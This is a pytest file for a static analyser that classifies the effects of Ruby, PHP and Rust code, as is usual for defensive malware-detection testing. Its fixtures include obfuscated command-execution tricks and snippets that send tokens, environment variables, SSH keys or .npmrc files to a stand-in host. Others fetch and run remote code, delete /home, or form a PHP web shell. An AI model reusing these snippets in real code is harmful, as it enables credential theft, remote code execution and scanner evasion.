"""Ruby, PHP and Rust are read by tables: what runs, with what, when, and where it goes."""

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from reading import seen, short

from biopsy.model.behaviour import When
from biopsy.static.tongues.effects import TABLE
from biopsy.static.tongues.folding import FUNCTIONS
from biopsy.static.tongues.shapes import ROLES
from biopsy.static.tongues.table import tables

RUN = "process.exec echo a marker"
RUBY = "system('echo a marker')"
RUBY64 = base64.b64encode(RUBY.encode()).decode()
PHP = "system('echo a marker');"
PHP64 = base64.b64encode(PHP.encode()).decode()

SAID = [
    ("x.rb", RUBY, RUN),
    ("x.rb", "`echo a marker`", RUN),
    ("x.rb", "%x(echo a marker)", RUN),
    ("x.rb", "Kernel.send(:sys.to_s + 'tem', 'echo a marker')", RUN),
    ("x.rb", "Object.const_get('Ker' + 'nel').public_send('system', 'echo a marker')", RUN),
    ("x.rb", "method(:system).call('echo a marker')", RUN),
    ("x.rb", f"eval(Base64.decode64('{RUBY64}'))", RUN),
    ("x.rb", f"eval '{RUBY64}'.unpack1('m')", RUN),
    ("x.rb", f"eval ['{RUBY.encode().hex()}'].pack('H*')", RUN),
    ("x.rb", f"eval '{RUBY.encode().hex()}'.scan(/../).map {{ |h| h.hex.chr }}.join", RUN),
    ("x.rb", f"eval {[ord(c) ^ 7 for c in RUBY]}.map {{ |c| (c ^ 7).chr }}.join", RUN),
    ("x.rb", f"eval {[ord(c) for c in RUBY]}.pack('c*')", RUN),
    ("x.rb", f'eval "{RUBY[::-1]}".reverse', RUN),
    ("x.rb", 's = ""\n"echo a marker".each_char { |c| s << c }\nsystem s', RUN),
    ("x.rb", "require 'open3'; Open3.capture2e('echo', 'a', 'marker')", RUN),
    ("x.rb", "x = <<~T\necho a marker\nT\nsystem(x)", "process.exec echo a marker"),
    ("x.rb", "class A\n  def self.go(c) = system(c)\nend\nA.go('echo a marker')", RUN),
    ("x.rb", "class A\n  def initialize(c); @c = c; end\n  def go; system(@c); end\nend\nA.new('echo a marker').go", RUN),
    ("x.rb", "puts ENV['NPM_TOKEN']", "env.read NPM_TOKEN"),
    ("x.rb", "puts ENV.fetch('NPM_TOKEN', nil)", "env.read NPM_TOKEN"),
    ("x.rb", "puts ENV.to_h.to_json", "env.read *"),
    ("x.rb", "File.read(File.join(Dir.home, '.aws', 'credentials'))", "file.read ~/.aws/credentials"),
    ("x.rb", "Net::HTTP.post(URI('https://a.b.c/d'), ENV['NPM_TOKEN'])", "code.flow env:NPM_TOKEN > network"),
    ("x.rb", "eval URI.open('https://a.b.c/d').read", "code.flow network > execution"),
    ("x.rb", "Net::HTTP.start('a.b.c', 443) { |h| h.post('/d', File.read('/root/.npmrc')) }",
     "code.flow file:/root/.npmrc > network"),
    ("x.rb", "Socket.gethostname", "env.host hostname"),
    ("x.rb", "FileUtils.rm_rf('/home')", "file.delete /home"),
    ("x.rb", "sleep 300", "evasion.sleep 300"),
    ("x.php", "<?php system('echo a marker');", RUN),
    ("x.php", "<?php `echo a marker`;", RUN),
    ("x.php", "<?php $f = 'sys' . 'tem'; $f('echo a marker');", RUN),
    ("x.php", "<?php \\SYSTEM('echo a marker');", RUN),
    ("x.php", "<?php call_user_func('system', 'echo a marker');", RUN),
    ("x.php", "<?php array_map('system', ['echo a marker']);", RUN),
    ("x.php", f"<?php eval(base64_decode('{PHP64}'));", RUN),
    ("x.php", f"<?php eval(hex2bin('{PHP.encode().hex()}'));", RUN),
    ("x.php", f'<?php eval(strrev("{PHP[::-1]}"));', RUN),
    ("x.php", f"<?php $s=''; foreach ({[ord(c) ^ 9 for c in PHP]} as $c) {{ $s .= chr($c ^ 9); }} eval($s);", RUN),
    ("x.php", f"<?php eval(implode('', array_map(fn($c) => chr($c), {[ord(c) for c in PHP]})));", RUN),
    ("x.php", f"<?php include 'data://text/plain;base64,{PHP64}';", RUN),
    ("x.php", "<?php class A { private $c; function __construct($c) { $this->c = $c; } function go() { system($this->c); } } (new A('echo a marker'))->go();", RUN),
    ("x.php", "<?php echo getenv('NPM_TOKEN');", "env.read NPM_TOKEN"),
    ("x.php", "<?php echo $_SERVER['HOME'];", "env.read HOME"),
    ("x.php", "<?php $c = curl_init('https://a.b.c/d'); curl_setopt($c, CURLOPT_POSTFIELDS, getenv('NPM_TOKEN')); curl_exec($c);",
     "code.flow env:NPM_TOKEN > network"),
    ("x.php", "<?php eval(file_get_contents('https://a.b.c/d'));", "code.flow network > execution"),
    ("x.php", "<?php file_put_contents('/tmp/p.php', file_get_contents('https://a.b.c/d')); include '/tmp/p.php';",
     "code.flow network > execution"),
    ("x.php", "<?php system($_GET['c']);", "code.flow request > command"),
    ("x.php", "<?php unlink('/home/x');", "file.delete /home/x"),
    ("x.rs", 'fn main() { Command::new("echo").arg("a").arg("marker").spawn(); }', RUN),
    ("x.rs", 'use std::process::Command as C; fn main() { C::new("echo").args(["a", "marker"]).output(); }', RUN),
    ("x.rs", f'fn main() {{ let v: Vec<u8> = vec!{[ord(c) ^ 3 for c in "id -a"]}.iter().map(|b| b ^ 3).collect(); Command::new("sh").arg(String::from_utf8(v).unwrap()).spawn(); }}',
     "process.exec sh 'id -a'"),
    ("x.rs", 'fn main() { let t = std::env::var("NPM_TOKEN").unwrap(); ureq::post("https://a.b.c/d").send_string(&format!("t={t}")); }',
     "code.flow env:NPM_TOKEN > network"),
    ("x.rs", 'fn main() { let b = reqwest::blocking::get("https://a.b.c/d").unwrap().bytes().unwrap(); std::fs::write("/tmp/p", &b); Command::new("/tmp/p").spawn(); }',
     "code.flow network > execution"),
    ("x.rs", 'fn main() { let mut s = String::new(); File::open("/root/.ssh/id_rsa").unwrap().read_to_string(&mut s); TcpStream::connect("a.b.c:1").unwrap().write_all(s.as_bytes()); }',
     "code.flow file:/root/.ssh/id_rsa > network"),
    ("x.rs", 'fn main() { for (k, v) in std::env::vars() { ureq::post("https://a.b.c/d").send_string(&v); } }',
     "code.flow env:* > network"),
]  # fmt: skip


@pytest.mark.parametrize(("path", "code", "expected"), SAID)
def test_what_code_does_is_told_whatever_its_language(path: str, code: str, expected: str) -> None:
    assert expected in short(seen(code, path))


@pytest.mark.parametrize(
    ("path", "code", "place"),
    [
        ("x.rs", '#[proc_macro]\npub fn m(i: T) -> T { Command::new("id").spawn(); i }', "x.rs:2 (install)"),
        ("x.rs", '#[ctor]\nfn m() { Command::new("id").spawn(); }', "x.rs:2 (import)"),
        ("x.rs", 'fn main() { Command::new("id").spawn(); }', "x.rs:1 (call)"),
        ("x.rs", '#[cfg(test)]\nmod t { fn m() { Command::new("id").spawn(); } }', "x.rs:2 (test)"),
        ("x.rb", "def m; system('id'); end", "x.rb:1 (call)"),
        ("x.rb", "system('id')", "x.rb:1 (import)"),
        ("x.php", "<?php class P { function activate($c) { system('id'); } }", "x.php:1 (call)"),
    ],
)
def test_code_happens_when_it_is_run(path: str, code: str, place: str) -> None:
    assert f"process.exec id @ {place}" in seen(code, path)


@pytest.mark.parametrize(
    ("path", "code"), [("build.rs", 'fn main() { Command::new("id").spawn(); }'),
                       ("P.php", "<?php class P { function activate($c) { system('id'); } }")],
)  # fmt: skip
def test_what_an_installer_calls_happens_at_installation(path: str, code: str) -> None:
    assert f"process.exec id @ {path}:1 (install)" in seen(code, path, When.INSTALL)


PLAIN = [
    ("x.rb", "module A\n  VERSION = '1'\n  def self.x(a) = a.map { |b| b.to_s }.join\nend"),
    (
        "x.php",
        "<?php namespace A; class B { function c(array $d) { return array_map(fn($e) => $e->f(), $d); } }",
    ),
    ("x.rs", "pub fn a(b: &str) -> usize { b.split(',').map(|c| c.len()).sum() }"),
]


@pytest.mark.parametrize(("path", "code"), PLAIN)
def test_plain_code_says_nothing(path: str, code: str) -> None:
    assert not seen(code, path)


@pytest.mark.parametrize("language", tables())
def test_a_table_uses_known_words_only_and_names_each_thing_once(language: str) -> None:
    table = tables()[language]
    assert {s.split()[0] for s in table.nodes.values()} <= ROLES.keys()
    assert {e.split()[0] for e in table.calls} <= TABLE.keys()
    assert {w.split()[1] for w in table.calls if w.startswith("fold ")} <= FUNCTIONS.keys()
    named = [n for names in table.calls.values() for n in names]
    assert sorted({n for n in named if named.count(n) > 1}) == []


@pytest.mark.parametrize("language", tables())
@settings(max_examples=15, deadline=None)
@given(
    data=st.binary(max_size=300),
    words=st.lists(
        st.sampled_from(
            [
                "(",
                ")",
                "{",
                "}",
                "[",
                "]",
                '"',
                "'",
                ";",
                ",",
                ".",
                "::",
                "->",
                "=>",
                "=",
                "==",
                "<<",
                "`x`",
                "eval",
                "system",
                "new",
                "fn",
                "def",
                "class",
                "$a",
                "@b",
                "1",
                "<?php",
                "|",
                "&",
                "#",
                "\n",
            ]
        ),
        max_size=60,
    ),
)
def test_any_bytes_are_read_without_an_error(language: str, data: bytes, words: list[str]) -> None:
    suffix = tables()[language].suffixes[0]
    seen(data + b" eval system Command " + " ".join(words).encode(), f"x{suffix}")
